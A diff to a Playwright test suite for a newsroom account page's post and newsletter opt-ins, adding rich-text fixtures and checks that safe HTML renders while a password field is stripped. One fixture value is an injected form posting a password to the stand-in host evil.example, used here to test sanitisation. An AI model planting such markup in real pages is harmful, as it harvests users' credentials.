@@ -305,7 +305,10 @@ test.describe('where the newsroom sends post and newsletters', () => {
     offer(server, {
       showMailOptIn: true,
       mailOptIn: 'Send me the print edition',
+      mailText: '<p>Printed on <strong>Thursdays</strong>.</p>',
       showNewsletterOptIn: true,
+      newsletterText:
+        '<p>Every <em>Saturday</em>.</p><form action="https://evil.example"><input type="password" name="p"></form>',
       newsletterGroups: [
         { id: 'daily', label: 'Harbour Daily', checked: false },
         { id: 'weekend', label: 'Weekend', checked: false },
@@ -313,11 +316,15 @@ test.describe('where the newsroom sends post and newsletters', () => {
     }),
   )
   test.afterEach(({ server }) =>
-    offer(server, { showMailOptIn: false, mailOptIn: '', showNewsletterOptIn: false, newsletterGroups: [] }),
+    offer(server, {
+      ...{ showMailOptIn: false, mailOptIn: '', mailText: '' },
+      ...{ showNewsletterOptIn: false, newsletterText: '', newsletterGroups: [] },
+    }),
   )
 
   test('an address is asked for only with the post, and newsletters come and go', async ({ page, server, someone }) => {
     await openAccount(page, server, someone)
+    await expect(page.getByText('Printed on Thursdays.').locator('strong')).toHaveText('Thursdays')
     await page.getByRole('checkbox', { name: 'Send me the print edition' }).check()
     await page.getByRole('button', { name: 'Save changes' }).click()
     await expect(field(page, /^Postcode/)).toHaveAccessibleDescription(/Postcode is required/)
@@ -330,6 +337,8 @@ test.describe('where the newsroom sends post and newsletters', () => {
 
     const newsletters = page.getByRole('region', { name: 'Newsletter' })
     await expect(newsletters).toContainText("You don't get the newsletter.")
+    await expect(newsletters.getByText('Every Saturday.').locator('em')).toHaveText('Saturday')
+    await expect(newsletters.locator('[type=password]')).toHaveCount(0)
     await newsletters.getByRole('checkbox', { name: 'Weekend' }).check()
     await newsletters.getByRole('button', { name: 'Save newsletters' }).click()
     await expect(newsletters).toContainText('You get the newsletter.')
